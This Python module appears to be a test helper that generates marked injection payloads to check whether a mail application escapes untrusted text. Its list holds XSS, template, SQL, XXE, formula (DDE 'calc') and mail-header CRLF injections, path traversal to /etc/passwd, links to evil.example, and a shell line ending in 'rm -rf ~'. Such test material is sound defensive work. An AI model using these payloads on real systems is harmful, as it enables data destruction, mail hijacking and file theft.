"""What somebody might write to break out of where their words are shown."""

from collections.abc import Callable
from html import escape
from itertools import islice
from urllib.parse import quote

MARK = "zq7x"
"""Stands in every payload, to find it again."""
SEEDS = (
    "<script>{m}()</script>",
    "<img src=x onerror={m}()>",
    '"><svg onload={m}()>',
    "'><a href=javascript:{m}()>x</a>",
    "<a href='https://evil.example/{m}'>Approve</a>",
    "<iframe src=//evil.example/{m}></iframe>",
    "<base href=https://evil.example/{m}/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{m}>",
    "<form action=https://evil.example/{m}><input name=a></form>",
    "<style>@import '//evil.example/{m}'</style>",
    "</title></head><body onload={m}()>",
    "<!--{m}--><![CDATA[{m}]]>",
    "&lt;script&gt;{m}&lt;/script&gt;",
    "<table background=//evil.example/{m}>",
    "{{{{ 191 * 7 }}}} {m}",
    "{{% for x in range(9) %}}{m}{{% endfor %}}",
    "{{{{ ''.__class__.__mro__ }}}} {m}",
    "{{{{ config }}}} ${{{{ {m} }}}} #{{{m}}}",
    "%(name)s %s %n {m} {{0}} {{name}}",
    "=cmd|' /C calc'!A0 {m}",
    "+{m}+1",
    "-2+3+{m}",
    "@SUM(1+9)*{m}",
    '\t=HYPERLINK("https://evil.example/{m}")',
    "＝1+1 {m}",
    "{m}\r\nBcc: eve@evil.example",
    "{m}\nSubject: changed",
    "{m}\r\n\r\n<b>a body of its own</b>",
    "{m}\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<lee@acme.example>\r\nDATA",
    "{m}\n.\nRSET",
    '{m}" NIL) (FLAGS (\\Deleted)) A001 EXPUNGE',
    "{m}\r\nA002 DELETE INBOX",
    "{m} {{310}}\r\nA003 LOGOUT",
    "{m}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:second",
    "{m};X-EVIL=1:mailto:eve@evil.example",
    "{m}\\nATTENDEE:mailto:eve@evil.example",
    "{m}\x1b[2J\x1b]0;title\x07\x1b[31m",
    "{m}\x9b31m\x90q\x9c\x85",
    "{m}\x00\x08\x7f\x0b\x0c",
    "{m}\u202egnp.exe\u202c",
    "{m}\u2066\u2067\u2069\u202a\u202b\u202d",
    "{m}\u2028\u2029new line",
    "../../../../etc/passwd {m}",
    "..\\..\\{m}.exe",
    "file:///etc/{m}",
    "{m}\nERROR mailflow: forged line",
    "$(touch /tmp/{m})`id`;|& rm -rf ~",
    "' OR 1=1 --{m}",
    "'); DROP TABLE message;-- {m}",
    "{m}=?utf-8?q?=0D=0ABcc:_eve=40evil.example?=",
    "{m}?subject=x&body=APPROVE%203&bcc=eve@evil.example",
    "mailto:{m}@evil.example?body=PAID%203",
    "<svg><animate onbegin={m}() attributeName=x></svg>",
    "<math><mtext><img src=x onerror={m}()></mtext></math>",
    "<details open ontoggle={m}()>",
    "javascript:{m}()//",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;{m}</a>",
    "{m}]]>--><x:a/>",
    "{{# {m} #}}{{%- raw -%}}",
    "{m}\r\nX-Mailflow-Loop: 1",
    "{m}\r\n\tfolded: on",
    "<{m}@evil.example>\r\n <second@evil.example>",
    "{m}\r\nQUIT\r\nEHLO evil.example",
    "{m}\r\n* BYE\r\n* 1 EXPUNGE",
    "DDE {m} =MSEXCEL|'\\..\\..\\calc.exe'!''",
    "%0d%0aBcc:%20eve@evil.example {m}",
    "{m}\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "{m}\U000e0041\U000e0042\ufeff\u00ad",
    "{m}\u200b\u200c\u200d\u2060",
    "\u001b]8;;https://evil.example/{m}\u0007click\u001b]8;;\u0007",
    "\u001bP+q544e\u001b\\\\{m}",
    "{m}\b\b\b\bhidden\rover",
    "{m}\nMAINPID=1\nREADY=1",
)


def _taken_apart(text: str) -> str:
    return text.replace("<", "<\n").replace("\r\n", "\r \n")


def _wide(text: str) -> str:
    """In full-width forms, which normalise to what they look like."""
    return "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" and one not in MARK else one for one in text)


DRESSES: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: f"{text} {text}",
    lambda text: f"hello {text}",
    lambda text: f"{text} und so weiter",
    lambda text: f"({text})",
    lambda text: f"“{text}”",
    lambda text: f"{text}.",
    lambda text: f"a{text}b",
    lambda text: f"\t{text}",
    lambda text: f"\r{text}\r",
    lambda text: f"'{text}'",
    lambda text: f'"{text}"',
    lambda text: f"\\{text}\\",
    lambda text: f"\u00a0{text}",
    lambda text: f"\ufeff{text}",
    lambda text: f"\u202e{text}",
    lambda text: f"| {text} | 1 |",
    lambda text: f"- {text}",
    lambda text: f"`{text}`",
    lambda text: f"[{text}]({text})",
    lambda text: f"&amp;{text}&#0;",
    lambda text: text.upper().replace(MARK.upper(), MARK),
    lambda text: text.swapcase().replace(MARK.swapcase(), MARK),
    escape,
    quote,
    _wide,
    _taken_apart,
    lambda text: f"{text}{'x' * 1200}",
)


def payloads(count: int) -> list[str]:
    """That many, all different as long as there are seeds and dresses for it: each seed comes once before any comes
    again, and their number is odd, so that whoever takes every second or fourth of them meets them all."""
    plain = [seed if "{m}" not in seed else seed.format(m=MARK) for seed in SEEDS]
    dressed = list(dict.fromkeys(dress(seed) for dress in DRESSES for seed in plain))
    assert len(plain) % 2 == 1
    turns = -(-count // len(dressed))
    return list(islice((one + " " * turn for turn in range(turns) for one in dressed), count))
